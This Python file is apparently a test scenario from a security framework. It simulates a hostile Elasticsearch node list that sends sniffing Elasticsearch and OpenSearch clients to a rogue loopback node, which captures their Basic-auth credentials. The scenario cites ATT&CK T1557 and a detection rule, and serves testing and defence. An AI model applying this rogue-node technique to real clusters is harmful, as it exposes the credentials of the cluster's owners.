"""C5: sniffing accepts the attacker's host as a node, and the client logs in there."""

import json
from contextlib import closing

from backwatch.attack.authority import Authority
from backwatch.attack.clients.search import Elasticsearch, OpenSearch
from backwatch.attack.protocols.http import Elsewhere, Request, format_response
from backwatch.attack.protocols.server import LOOPBACK
from backwatch.attack.scenarios import Run, Scenario
from backwatch.attack.techniques.search import PRODUCT, SearchEngine, search_result


class RogueNode(Elsewhere):
    """The attacker's node, which responds to searches."""

    def answer(self, request: Request) -> bytes:
        """Record the request, and return a search result."""
        super().answer(request)
        return search_result()


class SniffedNode(SearchEngine):
    """A search engine of one node. Once hostile, it names the attacker's node.

    Attributes:
        elsewhere: The attacker's node.
    """

    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = self.attach(RogueNode(authority))

    def answer(self, request: Request) -> bytes:
        """Return the nodes, or a search result."""
        if not request.path.startswith(b"/_nodes"):
            return search_result()
        address = f"{LOOPBACK}:{self.elsewhere.port}" if self.hostile else f"localhost/{LOOPBACK}:{self.port}"
        node = {"name": "shop", "roles": ["data", "ingest"], "http": {"publish_address": address}}
        return format_response(json.dumps({"nodes": {"a": node}}).encode(), headers=(PRODUCT,))


class ElasticsearchSniffed(Scenario):
    """The client sniffs only if the app asks for it."""

    code = "C5"
    attack = "names a node that is not the cluster's, which is sent the password"
    reference = "https://www.elastic.co/guide/en/elasticsearch/client/python-api/current/config.html; ATT&CK T1557"
    rule = "topology-changed"
    option = "sniff_on_start=True"
    server = SniffedNode
    captures = b"authorization: Basic"
    runs = (
        Run(Elasticsearch),
        Run(OpenSearch, reference="https://opensearch.org/docs/latest/clients/python-low-level/; ATT&CK T1557"),
    )  # fmt: skip

    def work(self) -> object:
        """Search for goods."""
        with closing(self.client.open(sniff_on_start=True)) as client:
            return [client.search(index="goods", q="name:apples")["hits"]["total"]["value"] for _ in range(4)]
